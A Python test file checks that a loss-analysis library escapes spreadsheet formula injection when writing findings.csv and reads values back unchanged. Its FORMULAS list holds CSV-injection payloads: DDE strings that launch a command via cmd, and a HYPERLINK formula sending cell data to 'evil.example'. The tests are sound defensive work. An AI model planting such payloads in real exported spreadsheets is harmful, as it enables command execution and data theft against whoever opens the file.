"""Formulas for spreadsheets in ids and labels."""

import csv

import numpy as np
import pyarrow as pa
import pytest

from lossan import analyze, build_log
from lossan.io import read_findings

FORMULAS = [
    "=1+1",
    "=cmd|' /C calc'!A0",
    '=HYPERLINK("http://evil.example?x="&A1,"ok")',
    "+1+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    "\uff1d1+1",
    "'=1+1",
    "''=1+1",
]
HARMLESS = ["+", "-", "-1", "+2.5", "'", "''", "'a", "a=b", "1-2", " b", "", "007", "null"]
TEXTS = [*FORMULAS, *(text for text in HARMLESS if text)]


def found():
    n = 2 * len(TEXTS)
    rng = np.random.default_rng(0)
    return analyze(
        build_log(
            rng.random((n, 3)),
            sample_id=[*TEXTS, *(f"{t} again" for t in TEXTS)],
            label=TEXTS * 2,
            true_label=TEXTS[::-1] * 2,
            path=TEXTS * 2,
            group=[None if i % 3 == 0 else t for i, t in enumerate(TEXTS * 2)],
        )
    )


def test_findings_for_a_spreadsheet(canary, tmp_path):
    """Formulas in findings.csv"""
    found().save(tmp_path / "found")
    with (tmp_path / "found" / "findings.csv").open(newline="", encoding="utf-8") as file:
        rows = list(csv.DictReader(file))
    cells = [value for row in rows for value in row.values()]
    assert not [c for c in cells if c[:1] in tuple("=@\t\r\n\uff1d")]
    assert not [c for c in cells if c[:1] in ("+", "-") and len(c) > 1 and not number(c)]
    shown = {row["sample_id"] for row in rows}
    assert {"'=1+1", "''=1+1", "'''=1+1"} <= shown
    assert {text for text in HARMLESS if text} <= shown


def number(text):
    try:
        float(text)
    except ValueError:
        return False
    return True


def test_what_was_written_is_read_again(canary, tmp_path):
    """Formulas come back as they were"""
    result = found()
    result.save(tmp_path / "found")
    from_csv = read_findings(tmp_path / "found" / "findings.csv")
    parquet = read_findings(tmp_path / "found")
    for column in ("sample_id", "label", "true_label", "path", "group"):
        assert from_csv[column].to_pylist() == parquet[column].to_pylist()
    assert set(parquet["label"].to_pylist()) == set(TEXTS)


@pytest.mark.parametrize("kind", [pa.int64(), pa.large_string()])
def test_ordinary_findings_stay_as_they_are(kind, canary, tmp_path):
    """Ordinary ids stand in findings.csv as they are"""
    ids = pa.array([-1, 2, 30]).cast(kind)
    log = build_log([[1.0, 2], [3, 4], [5, 1]], sample_id=ids, label=["-", "+", "a-b"])
    analyze(log, detector="mean_loss").save(tmp_path / "found")
    text = (tmp_path / "found" / "findings.csv").read_text()
    assert "'" not in text
